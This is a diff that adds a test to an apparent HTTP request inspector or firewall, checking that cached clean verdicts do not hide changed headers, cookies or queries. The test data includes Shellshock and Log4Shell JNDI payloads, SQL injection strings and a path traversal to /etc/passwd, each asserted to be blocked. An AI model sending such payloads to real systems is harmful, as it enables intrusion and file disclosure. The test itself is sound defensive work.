@@ -153,3 +153,30 @@ def test_match_route_policy_resolves_the_decorated_route() -> None:
     assert template == "/items" and policy is not None
     assert policy.typed_fields == {"query.limit": "int"}
     assert match_route_policy(app.router.routes, {**scope, "path": "/nope"}) == (None, None)
+
+
+def test_known_clean_requests_do_not_hide_a_changed_value() -> None:
+    """A bodiless request seen clean is remembered by path, query and inspected
+    headers; any change in those (a header, a cookie, the query) is inspected again,
+    and a route-specific pass (route policy) is never answered from that memory."""
+    inspector = Inspector()
+    ua = (b"user-agent", b"Mozilla/5.0")
+    clean = RequestParts("GET", "/items", b"page=2", (ua, (b"cookie", b"sid=abc")))
+    for _ in range(3):
+        assert not inspector.inspect(clean).findings
+    sid = (b"cookie", b"sid=abc")
+    shellshock = (b"user-agent", b"() { :; }; /bin/cat /etc/passwd")
+    jndi = (b"x-api-version", b"${jndi:ldap://x/a}")
+    attacks = [
+        RequestParts("GET", "/items", b"page=2", (shellshock, sid)),
+        RequestParts("GET", "/items", b"page=2", (ua, (b"cookie", b"sid=' OR '1'='1"))),
+        RequestParts("GET", "/items", b"page=2' OR '1'='1", (ua, sid)),
+        RequestParts("GET", "/items/../../etc/passwd", b"page=2", (ua, sid)),
+        RequestParts("GET", "/items", b"page=2", (ua, sid, jndi)),
+    ]
+    for parts in attacks:
+        assert inspector.inspect(parts).blocked, parts
+        assert inspector.inspect(parts).blocked, parts  # and again: findings are never kept
+    # Headers outside the inspected list do not change the verdict (nor the memory).
+    other = RequestParts("GET", "/items", b"page=2", (ua, sid, (b"accept", b"*/*")))
+    assert not inspector.inspect(other).findings
